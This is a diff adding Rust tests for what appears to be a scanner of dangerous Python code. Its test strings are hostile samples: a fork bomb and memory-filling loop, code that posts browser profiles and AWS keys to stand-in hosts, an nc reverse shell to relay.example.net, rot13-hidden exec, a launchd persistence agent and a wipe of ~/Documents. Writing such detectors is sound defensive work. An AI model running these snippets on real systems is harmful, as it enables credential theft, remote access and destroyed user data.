@@ -973,3 +973,135 @@ fn several_credentials_or_an_ip_destination_are_not_authentication() {
         "import pickle\np = 'c.pkl'\npickle.dump({}, open(p, 'wb'))\nopen(p, 'wb').write(blob)\nwith open(p, 'rb') as f:\n    pickle.load(f)\n",
     );
 }
+
+#[test]
+fn endless_loops_growing_memory_or_disk_by_megabytes() {
+    // A loop that never ends nor waits, adding a big block each pass, is a resource bomb.
+    fires(
+        "CRD112",
+        "hoard = []\nwhile 1:\n    hoard.append(bytearray(1 << 26))\n",
+    );
+    fires(
+        "CRD112",
+        "import os, itertools\nblob = os.urandom(32 * 1024 * 1024)\nfor n in itertools.count():\n    with open(os.path.join('/tmp', str(n)), 'wb') as out:\n        for _ in range(16):\n            out.write(blob)\n",
+    );
+    // Small items, a loop that waits for input or one that ends are ordinary programs.
+    silent("CRD112", "log = []\nwhile True:\n    log.append(input())\n");
+    silent(
+        "CRD112",
+        "buf = []\nwhile True:\n    buf.append(bytes(1 << 24))\n    if len(buf) > 3:\n        break\n",
+    );
+    silent(
+        "CRD112",
+        "rows = []\nwhile True:\n    rows.append('x' * 80)\n    print(len(rows))\n    break\n",
+    );
+}
+
+#[test]
+fn forking_copies_that_loop_on_are_a_bomb_even_when_slow() {
+    // Each child continues the loop and forks too; a sleep only slows the doubling.
+    fires(
+        "CRD111",
+        "import os, time\nwhile True:\n    if os.fork() == 0:\n        time.sleep(0.1)\n        continue\n    time.sleep(1)\n",
+    );
+    // A parent that waits for each child, or a child that exits, is a worker pool.
+    silent(
+        "CRD111",
+        "import os, time\nwhile True:\n    pid = os.fork()\n    if pid == 0:\n        time.sleep(1)\n        os._exit(0)\n    os.waitpid(pid, 0)\n",
+    );
+}
+
+#[test]
+fn installing_a_package_from_elsewhere_runs_its_code() {
+    // pip from a URL, a VCS or another index runs setup code nobody assessed.
+    fires(
+        "CRD102",
+        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'https://pkgs.example.net/tool-1.0.tar.gz'])\n",
+    );
+    fires(
+        "CRD102",
+        "import os\nos.system('pip3 install --index-url http://mirror.example.net/simple helper')\n",
+    );
+    // A requirements file or a package from PyPI is not.
+    silent(
+        "CRD102",
+        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', '-r', 'requirements.txt'])\n",
+    );
+}
+
+#[test]
+fn a_fetched_library_with_a_computed_name_is_loaded() {
+    // The name is partly known (`libx-<arch>.so`) but the same where written and loaded.
+    fires(
+        "CRD102",
+        "import ctypes, os, platform, tempfile, urllib.request\nname = f'libx-{platform.machine()}.so'\npath = os.path.join(tempfile.gettempdir(), name)\nwith open(path, 'wb') as f:\n    f.write(urllib.request.urlopen('https://cdn.example.net/' + name).read())\nctypes.CDLL(path)\n",
+    );
+}
+
+#[test]
+fn more_escape_persistence_and_mining_markers() {
+    // The Docker SDK drives the engine through its socket; launchd agents start at login;
+    // a `/getwork` endpoint is the mining RPC.
+    fires(
+        "CRD106",
+        "import docker\ndocker.from_env().containers.run('alpine', privileged=True)\n",
+    );
+    fires(
+        "CRD105",
+        "import plistlib\nfrom pathlib import Path\nwith open(Path.home() / 'Library/LaunchAgents/com.x.plist', 'wb') as f:\n    plistlib.dump({'Label': 'x'}, f)\n",
+    );
+    fires(
+        "CRD108",
+        "import requests\njob = requests.get('https://pool.example.net/api/getwork').json()\n",
+    );
+}
+
+#[test]
+fn browser_profiles_walked_and_sent_out() {
+    // Every file below a browser profile may be its cookies or passwords.
+    fires(
+        "CRD109",
+        "import shutil, requests\nfrom pathlib import Path\nprofile = Path.home() / '.config/chromium/Default'\nfor f in profile.rglob('*'):\n    shutil.copy2(f, '/tmp/stage')\nrequests.post('https://sync.example.net', files={'f': open('/tmp/stage', 'rb')})\n",
+    );
+}
+
+#[test]
+fn cloud_session_keys_sent_out() {
+    // `get_credentials()` of a boto3 session is the account's keys.
+    fires(
+        "CRD109",
+        "import boto3, requests\ncreds = boto3.Session().get_credentials().get_frozen_credentials()\nrequests.post('https://audit.example.net', json={'k': creds.access_key, 's': creds.secret_key})\n",
+    );
+}
+
+#[test]
+fn rot13_by_codecs_encode_is_decoding() {
+    // rot13 is its own inverse: `codecs.encode(s, "rot_13")` decodes hidden code.
+    fires(
+        "CRD103",
+        "import codecs\nexec(codecs.encode('vzcbeg bf; bf.flfgrz(\"vq\")', 'rot_13'))\n",
+    );
+}
+
+#[test]
+fn a_tool_found_with_which_is_that_tool() {
+    // `shutil.which("ncat")` returns a path to ncat: given `-e /bin/sh`, a reverse shell.
+    fires(
+        "CRD101",
+        "import shutil, subprocess\ntool = next(p for p in map(shutil.which, ['ncat', 'nc']) if p)\nsubprocess.call([shutil.which('nc'), 'relay.example.net', '9001', '-e', '/bin/sh'])\n",
+    );
+}
+
+#[test]
+fn truncating_every_file_in_the_users_documents() {
+    // Every file found below ~/Documents opened for writing is wiped.
+    fires(
+        "CRD104",
+        "from pathlib import Path\nfor f in (Path.home() / 'Documents').rglob('*'):\n    open(f, 'w').close()\n",
+    );
+    // Rewriting the project's own sources is a formatter.
+    silent(
+        "CRD104",
+        "from pathlib import Path\nfor f in Path('src').rglob('*.py'):\n    text = f.read_text()\n    open(f, 'w').write(text.strip() + '\\n')\n",
+    );
+}
